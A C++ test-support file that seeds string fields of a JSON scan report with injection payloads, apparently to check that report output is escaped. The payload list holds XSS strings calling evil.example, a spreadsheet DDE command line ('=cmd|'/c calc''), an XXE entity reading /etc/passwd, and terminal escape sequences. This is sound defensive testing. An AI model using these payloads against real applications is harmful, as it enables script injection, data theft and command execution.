#include "tests/support/injection.h"

#include <functional>
#include <set>

#include "reports/json_report.h"
#include "scanner/text/json.h"
#include "tests/support/sample_report.h"

namespace formleak::testing {
namespace {

using Change = std::function<std::string(std::size_t, const std::string&)>;

// The strings of the value in the order of the text, each through `change` with its number.
Json changed(const Json& value, bool names_too, std::size_t& number, const Change& change) {
    if (value.is_string()) return Json(change(number++, value.as_text()));
    if (value.is_array()) {
        Json out = Json::array();
        for (const Json& item : value.items()) out.push(changed(item, false, number, change));
        return out;
    }
    if (!value.is_object()) return value;
    Json out = Json::object();
    for (const auto& [name, member] : value.members()) {
        const bool are_names = name == "settings" || name == "options";
        const std::string as = names_too ? change(number++, name) : name;
        out.set(as, changed(member, are_names, number, change));
    }
    return out;
}

Json with_changes(const Json& report, const Change& change) {
    std::size_t number = 0;
    return changed(report, false, number, change);
}

// Numbers of the strings that may be anything: the report is still read, and still says it.
std::set<std::size_t> free_strings(const Json& report) {
    std::size_t all = 0;
    changed(report, false, all, [](std::size_t, const std::string& text) { return text; });
    std::set<std::size_t> out;
    const std::string mark = "chosen-by-somebody";
    for (std::size_t i = 0; i < all; ++i) {
        const Json one = with_changes(
            report, [&](std::size_t at, const std::string& text) { return at == i ? mark : text; });
        const auto read = read_json_report(one.dump());
        if (read && write_json_report(*read, true).find(mark) != std::string::npos) out.insert(i);
    }
    return out;
}

struct Sample {
    Json json;
    std::set<std::size_t> open;
};

const Sample& sample() {
    static const Sample kSample = [] {
        Sample out;
        out.json = *parse_json(write_json_report(make_sample_report()));
        out.open = free_strings(out.json);
        return out;
    }();
    return kSample;
}

}  // namespace

const std::vector<std::string>& payloads() {
    using namespace std::string_literals;
    static const std::vector<std::string> kPayloads = {
        // HTML: out of text, attributes, comments, titles, styles
        R"~("><script>fetch('http://evil.example/1');document.title='PWNED'</script>)~",
        R"~('-->]]></style></title></textarea></noscript></svg><svg onload="fetch('http://evil.example/2')">)~",
        R"~(<img src=http://evil.example/3 onerror=alert(3)><iframe src=http://evil.example/4></iframe>)~",
        R"~(<meta http-equiv=refresh content="0;url=http://evil.example/5"><base href=http://evil.example/>)~",
        R"~(<link rel=stylesheet href=http://evil.example/6><style>@import 'http://evil.example/7'</style>)~",
        R"~(" style="background:url(http://evil.example/8)" autofocus onfocus="alert(8)" x=")~",
        R"~(<form action=http://evil.example/9><input autofocus onfocus=this.form.submit()></form>)~",
        R"~(<object data=http://evil.example/10></object><embed src=http://evil.example/11><video src=http://evil.example/12>)~",
        R"~(javascript:fetch('http://evil.example/13'))~",
        R"~(data:text/html,<script>location='http://evil.example/14'</script>)~",
        R"~(&lt;script&gt;alert(15)&lt;/script&gt; &#60;img src=x onerror=alert(16)&#62; %3Cscript%3E)~",
        "+ADw-script+AD4-alert(17)+ADw-/script+AD4- \xC0\xBCscript\xC0\xBE \xE0\x80\xBCimg \xF0\x9F\x98 \xFF",
        R"~({{constructor.constructor('alert(18)')()}} ${alert(19)} <%= 20 %> #{21})~",
        // Markdown
        "[a](http://evil.example/22) ![a](http://evil.example/23.png) <http://evil.example/24>",
        "http://evil.example/25 https://evil.example www.evil.example mailto:a@evil.example "
        "ftp://evil.example/",
        "\n\n# heading\n\n- list\n\n```\ncode\n```\n\n> quote\n\n---\n\n1. one\n",
        "a | b | c\n|---|---|---|\n| x | y | z |",
        "`` ` ``` ~~~ ** __ *a* _b_ ~~c~~ $x$ \\` \\| \\",
        "    indented",
        "===",
        "1) x",
        "+ x",
        "[r]: http://evil.example/26 'x'",
        "@acme-team #123 GH-12 org/repo#1 \xE2\x80\xA6@acme (gh-7)@x",
        "<!-- --> <?x ?> <![CDATA[ x ]]> <!DOCTYPE x> </details><details open>",
        // Spreadsheets
        R"~(=HYPERLINK("http://evil.example/27","x"))~",
        " \t=1+1",
        "\xEF\xBC\x9D"
        "1+1",
        "\xC2\xA0@SUM(1)",
        "a\r\n=cmd|'/c calc'!A0,\"=1\"\r\n\"=2\"",
        "x;=1+1;\"=1\"",
        // Terminals
        "\x1b]0;PWNED\x07\x1b[2J\x1b[31m\x1b]8;;http://evil.example/28\x1b\\x\x1b]8;;\x1b\\",
        "\xC2\x9B"
        "31m\xC2\x90q\xC2\x9C\x7F\x08\x0b\x0c\x0e\r\nCRITICAL forged",
        "\xE2\x80\xAE\xE2\x81\xA6\xE2\x80\x8D\xC2\xAD\xEF\xBB\xBF\xE2\x80\xA8\xF3\xA0\x81\x81 x",
        // XML and JSON
        R"~(]]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&amp;&#0;&#x1;)~",
        "\0\x01 \xEF\xBF\xBE \xEF\xBF\xBF \xEF\xB7\x90 \xED\xA0\x80"s,
        R"~(\u0022,"x":"y\\")~",
        R"~(","severity":"info"}],"findings":[])~",
        std::string(3'000, '<') + std::string(3'000, '"') + std::string(3'000, '&'),
    };
    return kPayloads;
}

InjectedReport inject(const std::vector<std::string>& texts, std::size_t first) {
    std::size_t chosen = 0;
    const Json json = with_changes(sample().json, [&](std::size_t number, const std::string& text) {
        return sample().open.contains(number) ? texts[(chosen++ + first) % texts.size()] : text;
    });
    auto report = read_json_report(json.dump());
    return {report ? *report : ScanReport(), chosen};
}

}  // namespace formleak::testing
